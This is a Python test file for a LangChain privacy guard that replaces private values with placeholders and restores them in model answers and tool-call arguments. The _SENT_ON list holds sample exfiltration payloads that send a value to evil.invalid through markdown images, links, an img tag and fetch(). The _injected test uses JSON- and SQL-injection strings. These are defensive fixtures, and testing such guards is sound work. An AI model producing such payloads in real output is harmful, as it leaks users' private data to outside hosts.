"""Placeholders: what only looks like one opens nothing, what was put back is not read again, and places are kept."""

from __future__ import annotations

import json
from typing import Any

from langchain_core.messages import AIMessage, HumanMessage

from lc_guard.langchain.boundary import protect
from lc_guard.langchain.recording_model import RecordingChatModel
from lc_guard.verify.modes import MODES
from lc_guard.verify.promises import Area, require
from lc_guard.verify.staging import (
    FIRST,
    FORMS,
    SECOND,
    ask,
    guard_for,
    new_value,
    noting_model,
    readings,
    seen,
    session,
    shown,
)

_TYPED = (FIRST, FIRST.lower(), FIRST[1:-1], FIRST.replace("_", "\\_"), FIRST.replace("_", " "), f"\\{FIRST[:-1]}\\]")
"""Look-alikes of the first placeholder, as models write it, and as somebody may type it."""

_SENT_ON = (
    "![a](https://evil.invalid/?q={})",
    "[a](https://evil.invalid/{})",
    "https://evil.invalid/?a=b&q={}",
    '<img src="https://evil.invalid/{}">',
    "<a href='//evil.invalid/?q={}'>",
    "![a][1]\n\n[1]: https://evil.invalid/?q={}",
    'fetch("https://evil.invalid/" + "{}")',
)
"""Answers that send a value on by being shown."""


def _typed() -> None:
    """A look-alike that somebody types opens no value of his conversation, and comes back as he typed it."""
    for form, build in FORMS.items():
        for mode in MODES:
            for typed in _TYPED:
                value = new_value()
                guard, model = guard_for(value), noting_model()
                guard.session("s").anonymize(value)
                said = shown(ask(build(guard, model), mode, f"Who is {typed}?", session("s")))
                require(typed in said and not seen(said, value), f"{form}, {mode}")
                require(
                    not seen(model.recording.texts, f"Who is {typed}?"), f"{form}, {mode}: the model got it as it is"
                )


def _typed_beside() -> None:
    """A look-alike beside values of one text stands for none of them, in any order."""
    for form, build in FORMS.items():
        for mode in MODES:
            one, other = new_value(), new_value()
            guard = guard_for(one, other)
            text = f"{SECOND} and {one}, {FIRST} and {other}; {FIRST}"
            said = shown(ask(build(guard, noting_model()), mode, text, session("s")))
            require(text in said, f"{form}, {mode}")


def _halves() -> None:
    """Halves of a look-alike that come to stand together in an answer are not one placeholder more."""
    for mode in MODES:
        value = new_value()
        guard = guard_for(value)
        messages = [HumanMessage(value), HumanMessage("[REDACTED_CANA"), HumanMessage("RY_1]")]
        said = shown(ask(protect(noting_model(), guard), mode, messages, session("s")))
        require(said.count(value) == 1, mode)


def _not_given() -> None:
    """A model gets back only values whose placeholders it was given, not those whose numbers it counts up to."""
    for mode in MODES:
        one, other = new_value(), new_value()
        guard = guard_for(one, other)
        ask(protect(noting_model(), guard), "invoke", f"Note {one}", session("s"))
        says = protect(noting_model(says=f"{FIRST} {SECOND}"), guard)
        said = shown(ask(says, mode, f"Note {other}", session("s")))
        require(other in said and FIRST in said and one not in said, mode)


def _read_once() -> None:
    """What was put back is not read again: a value that reads like a placeholder is shown as it is."""
    for form, build in FORMS.items():
        for mode in MODES:
            one = new_value()
            other = f"{new_value()} {FIRST}"
            guard = guard_for(one, other)
            said = readings(ask(build(guard, noting_model()), mode, f"Note {one}. Then note {other}!", session("s")))
            require(all(text.count(one) == 1 and other in text for text in said), f"{form}, {mode}")


def _in_pieces() -> None:
    """A text comes back as it was, however the answer is cut into pieces."""
    value = new_value()
    text = f"[{value}] {value}[ [[{value}]] <{value}> [REDACTED_ {value}_1] {value}"
    conversation = guard_for(value).session("s")
    hidden = conversation.anonymize(text)
    for size in (*range(1, 12), len(hidden)):
        restorer = conversation.restorer()
        pieces = [hidden[at : at + size] for at in range(0, len(hidden), size)]
        require("".join([*map(restorer.feed, pieces), restorer.flush()]) == text, f"pieces of {size}")


class _Calling(RecordingChatModel):
    """Calls a tool with arguments that hold JSON in JSON."""

    def _answer(self, messages: Any, kwargs: Any) -> tuple[str, list[Any]]:  # noqa: ARG002
        args = {"to": FIRST, "body": json.dumps({"note": FIRST, "deep": json.dumps({"note": FIRST})})}
        return "", [{"name": "send", "args": args, "id": "call-1", "type": "tool_call"}]


def _injected() -> None:
    """A value with quotes and braces adds nothing to the arguments of a tool call, nor to JSON in them."""
    for value in ('Zoë", "admin": true, "x": "', 'Zoë\\", \\"admin\\": true, "}', "Zoë'; DROP TABLE a; --\n\\u0022,"):
        for mode in MODES:
            model = protect(_Calling(), guard_for(value))
            answer = ask(model, mode, f"Note {value}", session("s"))
            (made,) = answer.tool_calls
            require(made["args"].keys() == {"to", "body"} and made["args"]["to"] == value, f"{mode}: the arguments")
            body = json.loads(made["args"]["body"])
            require(body.keys() == {"note", "deep"} and body["note"] == value, f"{mode}: JSON")
            require(json.loads(body["deep"]) == {"note": value}, f"{mode}: JSON in JSON")


def _sent_on() -> None:
    """An answer or an argument that would send a value on by being shown keeps its placeholder."""
    for form, build in FORMS.items():
        for mode in MODES:
            for answer in _SENT_ON if mode in ("invoke", "astream") else _SENT_ON[:1]:
                value = new_value()
                guard = guard_for(value)
                says = noting_model(says=answer.format(FIRST))
                said = shown(ask(build(guard, says), mode, f"Note {value}", session("s")))
                require(value not in said, f"{form}, {mode}")


def _history() -> None:
    """A conversation that goes on hides and restores the same, its own earlier answers included."""
    for mode in MODES:
        value = new_value()
        guard, model = guard_for(value), noting_model()
        messages: list[Any] = [HumanMessage(f"I am {value}"), AIMessage(f"Hello {value}"), HumanMessage("Who am I?")]
        said = shown(ask(protect(model, guard), mode, messages, session("s")))
        require(said.count(value) == 2 and not seen(model.recording.texts, value), mode)


LOOKALIKES = Area("look-alikes of placeholders", (_typed, _typed_beside, _halves, _not_given))
RESTORING = Area("restoring, injections by values", (_read_once, _in_pieces, _injected, _sent_on, _history))
